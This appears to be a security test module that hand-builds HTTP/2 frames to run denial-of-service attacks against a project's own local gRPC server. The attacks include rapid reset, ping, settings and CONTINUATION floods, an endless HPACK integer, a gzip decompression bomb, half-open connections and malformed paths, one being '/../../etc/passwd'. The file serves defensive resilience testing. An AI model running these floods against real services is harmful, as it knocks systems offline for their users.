"""Raw HTTP/2 against a gRPC server: each attack goes on for some seconds, over its own connections.

An attack is a function of the server and of how long; it returns what it did, in words. That a
connection is closed on it is how it should end; whether others are served meanwhile is for whoever
runs it to look at. Frames are made by hand: libraries refuse to make such ones.
"""

import contextlib
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator

import hpack
from kcore_api.kcore.api.v1 import api_pb2 as pb

from tests.security.server import Server

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

WATCH = "/kcore.api.v1.ApiService/Watch"
LIST = "/kcore.api.v1.ApiService/List"
COMMIT = "/kcore.api.v1.ApiService/Commit"
CONFIG_MAP = "kcore.core.v1.ConfigMap"

Attack = Callable[[Server, float], str]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(path: str, *more: tuple[str, str], token: str = "") -> bytes:
    """A call's headers, without any state of the connection's: it serves for every call."""
    pairs: list[tuple[str, str]] = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    if token:
        pairs.append(("authorization", f"Bearer {token}"))
    encoder = hpack.Encoder()
    encoded: bytes = encoder.encode(
        [hpack.NeverIndexedHeaderTuple(name, value) for name, value in pairs], huffman=False
    )
    return encoded


def message(body: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", compressed, len(body)) + body


class Connection:
    """A connection that sends what it is told, and reads what there is."""

    def __init__(self, server: Server, window: int = 65_535) -> None:
        """`window`: what the server may send on each stream."""
        self.socket = server.dial()
        self.alive = True
        self.sent = 0
        self.read = bytearray()
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))

    def send(self, data: bytes, wait: float = 5.0) -> None:
        """Sends; afterwards the connection may be dead."""
        try:
            self.socket.settimeout(wait)
            self.socket.sendall(data)
            self.sent += len(data)
        except (OSError, ValueError):
            self.alive = False

    def drain(self, wait: float = 0.0) -> bytes:
        """What has come; waits so long for the first of it."""
        self.socket.settimeout(wait or 0.0001)
        try:
            while self.alive:
                data = self.socket.recv(1 << 16)
                if not data:
                    self.alive = False
                self.read += data
                self.socket.settimeout(0.0001)
        except TimeoutError:
            pass
        except (OSError, ValueError):
            self.alive = False
        return bytes(self.read)

    def frames(self, wait: float = 0.0) -> Iterator[tuple[int, int, int, bytes]]:
        """Kind, flags, stream and payload of what has come."""
        data = self.drain(wait)
        at = 0
        while at + 9 <= len(data):
            size = int.from_bytes(data[at : at + 3], "big")
            kind, flags, stream = struct.unpack(">BBI", data[at + 3 : at + 9])
            yield kind, flags, stream, data[at + 9 : at + 9 + size]
            at += 9 + size

    def status(self, stream: int, seconds: float = 3.0) -> str:
        """A call's grpc-status; "" if the connection ended before there was one."""
        ends = time.monotonic() + seconds
        while True:
            decoder = hpack.Decoder()
            for kind, _, number, payload in self.frames(0.05):
                if kind == HEADERS:
                    found = dict(decoder.decode(payload))
                    if number == stream and "grpc-status" in found:
                        return str(found["grpc-status"])
                if kind == RST and number == stream:
                    return "reset"
            if not self.alive or time.monotonic() > ends:
                return ""

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.close()


def _again(server: Server, seconds: float, burst: Callable[[int], bytes]) -> str:
    """Sends bursts for as long, dialling again when thrown out."""
    ends = time.monotonic() + seconds
    dialled, sent = 0, 0
    while time.monotonic() < ends:
        connection = Connection(server)
        dialled += 1
        number = 0
        while connection.alive and time.monotonic() < ends:
            connection.send(burst(number), max(0.05, ends - time.monotonic()))
            connection.drain()
            connection.read.clear()
            number += 1
        sent += connection.sent
        connection.close()
    return f"{dialled} connections, {sent >> 10} KiB"


def rapid_reset(server: Server, seconds: float, token: str = "") -> str:
    """Calls that are cancelled as they are made."""
    headers = block(WATCH, token=token)

    def burst(number: int) -> bytes:
        parts = []
        for offset in range(100):
            stream = (number * 100 + offset) * 2 + 1
            parts.append(frame(HEADERS, END_HEADERS, stream, headers))
            parts.append(frame(RST, 0, stream, struct.pack(">I", 8)))
        return b"".join(parts)

    return _again(server, seconds, burst)


def rapid_reset_with_a_token(server: Server, seconds: float) -> str:
    """The same by somebody who may."""
    return rapid_reset(server, seconds, server.token)


def ping_flood(server: Server, seconds: float) -> str:
    return _again(server, seconds, lambda number: frame(PING, 0, 0, b"01234567") * 200)


def settings_flood(server: Server, seconds: float) -> str:
    return _again(server, seconds, lambda number: frame(SETTINGS, 0, 0) * 200)


def continuation_flood(server: Server, seconds: float) -> str:
    """Headers that never end."""
    filler = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(f"x-{n}", "v" * 1000) for n in range(15)], huffman=False
    )

    def burst(number: int) -> bytes:
        if number == 0:
            return frame(HEADERS, 0, 1, block(WATCH)) + frame(CONTINUATION, 0, 1, filler)
        return frame(CONTINUATION, 0, 1, filler)

    return _again(server, seconds, burst)


def endless_integer(server: Server, seconds: float) -> str:
    """A number in HPACK that never ends."""

    def burst(number: int) -> bytes:
        if number == 0:
            return frame(HEADERS, 0, 1, b"\x7f" + b"\x80" * 16_000)
        return frame(CONTINUATION, 0, 1, b"\x80" * 16_000)

    return _again(server, seconds, burst)


def huge_metadata(server: Server, seconds: float) -> str:
    """A mebibyte of it, call after call."""
    headers = block(WATCH, *((f"x-{n}", "v" * 8000) for n in range(128)), token=server.token)
    pieces = [headers[at : at + 16_000] for at in range(0, len(headers), 16_000)]

    def burst(number: int) -> bytes:
        stream = number * 2 + 1
        parts = [frame(HEADERS, 0, stream, pieces[0])]
        parts += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        parts.append(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
        parts.append(frame(RST, 0, stream, struct.pack(">I", 8)))
        return b"".join(parts)

    return _again(server, seconds, burst)


def bomb(size: int) -> bytes:
    """So many zeros, compressed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    packed = b"".join((*parts, packer.flush()))
    assert len(packed) < (4 << 20) - 4096
    return packed


def gzip_bomb(server: Server, seconds: float) -> str:
    """A small message that is a large one: 64 MiB, or when there is time 4 GiB (in 4 MiB)."""
    packed = bomb(64 << 20 if seconds < 5 else 4000 << 20)
    said = send_message(server, message(packed, True), ("grpc-encoding", "gzip"))
    return f"{len(packed)} bytes: status {said}"


def send_message(server: Server, body: bytes, *more: tuple[str, str]) -> str:
    """One Commit with this body; its status."""
    connection = Connection(server)
    headers = block(COMMIT, *more, token=server.token)
    connection.send(frame(HEADERS, END_HEADERS, 1, headers))
    at, ends = 0, time.monotonic() + 30
    while at < len(body) and connection.alive and time.monotonic() < ends:
        # As the server lets: it would close the connection on whoever sends more.
        granted = {0: 65_535, 1: 65_535}
        for kind, _, stream, payload in connection.frames(0.01 if at else 0):
            if kind == WINDOW:
                granted[stream] = granted.get(stream, 0) + int.from_bytes(payload, "big")
            if kind == SETTINGS:
                for setting in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[setting : setting + 6])
                    granted[1] += value - 65_535 if name == 4 else 0
        until = min(len(body), granted[0], granted[1])
        while at < until:
            piece = body[at : min(at + 16_000, until)]
            at += len(piece)
            connection.send(frame(DATA, END_STREAM if at == len(body) else 0, 1, piece))
    said = connection.status(1, 30)
    connection.close()
    return said


def half_open(server: Server, seconds: float) -> str:
    """Connections that say nothing."""
    sockets = []
    for _ in range(300 if seconds < 5 else 2000):
        one = socket.create_connection(("127.0.0.1", server.setup.port), timeout=5)
        sockets.append(one)
    time.sleep(seconds)
    open_still = 0
    for one in sockets:
        one.settimeout(0.0001)
        try:
            open_still += bool(one.recv(1))
        except TimeoutError:
            open_still += 1
        except OSError:
            pass
        one.close()
    return f"{len(sockets)} connections, {open_still} open after {seconds:g} s"


def bad_paths(server: Server, seconds: float) -> str:
    """Calls to what is not there, in many ways."""
    paths = (
        "",
        "/",
        "//",
        "/a",
        "/" + "a" * 7000,
        "/kcore.api.v1.ApiService/Get\x00",
        "/kcore.api.v1.ApiService/\xff",
        "/../../etc/passwd",
        "*",
        "kcore.api.v1.ApiService/Get",
    )
    blocks = [block(path, token=server.token) for path in paths]

    def burst(number: int) -> bytes:
        parts = []
        for offset, headers in enumerate(blocks):
            stream = (number * len(blocks) + offset) * 2 + 1
            parts.append(frame(HEADERS, END_HEADERS, stream, headers))
            parts.append(frame(DATA, END_STREAM, stream, message(b"")))
        return b"".join(parts)

    return _again(server, seconds, burst)


def _refused(connections: list[Connection]) -> int:
    """How many calls were; waits for the first a while, since the server may have much to do."""
    ends = time.monotonic() + 5
    while True:
        found = sum(
            kind == HEADERS and bool(flags & END_STREAM)
            for connection in connections
            for kind, flags, _, _ in connection.frames(0.1)
        )
        if found or time.monotonic() > ends:
            return found


def idle_streams(server: Server, seconds: float) -> str:
    """Watches of nothing, by one user, over several connections."""
    count = 1200 if seconds < 5 else 10_000
    asked = pb.WatchRequest(
        selections=[pb.Selection(kind=CONFIG_MAP, namespace="none")]
    ).SerializeToString()
    headers = block(WATCH, token=server.token)
    connections = []
    for _ in range(count // 400):
        connection = Connection(server)
        for number in range(400):
            stream = number * 2 + 1
            connection.send(
                frame(HEADERS, END_HEADERS, stream, headers)
                + frame(DATA, END_STREAM, stream, message(asked))
            )
            if number % 50 == 49:
                connection.drain()
        connections.append(connection)
    time.sleep(seconds)
    refused = _refused(connections)
    for connection in connections:
        connection.close()
    return f"{count} streams, {refused} refused"


def stuck_lists(server: Server, seconds: float) -> str:
    """Large answers that nobody reads."""
    asked = pb.ListRequest(selection=pb.Selection(kind=CONFIG_MAP)).SerializeToString()
    headers = block(LIST, token=server.token)
    connections = []
    for _ in range(4):
        connection = Connection(server, window=0)
        for number in range(100):
            stream = number * 2 + 1
            connection.send(
                frame(HEADERS, END_HEADERS, stream, headers)
                + frame(DATA, END_STREAM, stream, message(asked))
            )
        connections.append(connection)
    time.sleep(seconds)
    refused = _refused(connections)
    for connection in connections:
        connection.close()
    return f"400 lists, {refused} refused"


def garbage(server: Server, seconds: float) -> str:
    """What is no HTTP/2."""
    data = bytes(range(256)) * 64
    return _again(server, seconds, lambda number: data)


ATTACKS: dict[str, Attack] = {
    "S37-rapid-reset": rapid_reset_with_a_token,
    "S37-ping-flood": ping_flood,
    "S37-settings-flood": settings_flood,
    "S38-continuation-flood": continuation_flood,
    "S38-endless-integer": endless_integer,
    "S41-half-open": half_open,
    "S42-rapid-reset-by-nobody": rapid_reset,
    "S44-gzip-bomb": gzip_bomb,
    "S44-huge-metadata": huge_metadata,
    "S45-idle-streams": idle_streams,
    "S34-stuck-lists": stuck_lists,
    "P19-bad-paths": bad_paths,
    "P19-garbage": garbage,
}


def ask(server: Server, path: str, body: bytes) -> str:
    """One unary call by hand; its status."""
    connection = Connection(server)
    connection.send(
        frame(HEADERS, END_HEADERS, 1, block(path, token=server.token))
        + frame(DATA, END_STREAM, 1, message(body))
    )
    said = connection.status(1)
    connection.close()
    return said
